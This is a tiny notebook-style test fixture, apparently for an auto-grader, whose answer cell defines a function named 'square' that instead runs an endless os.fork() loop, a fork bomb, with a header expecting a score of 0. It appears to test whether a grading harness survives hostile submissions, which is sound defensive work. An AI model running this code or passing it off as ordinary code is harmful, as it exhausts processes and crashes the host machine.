# %% [markdown]
# Forks without end; each child forks too.
#
# Must: score 0

# %% answer="square"
import os


def square(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
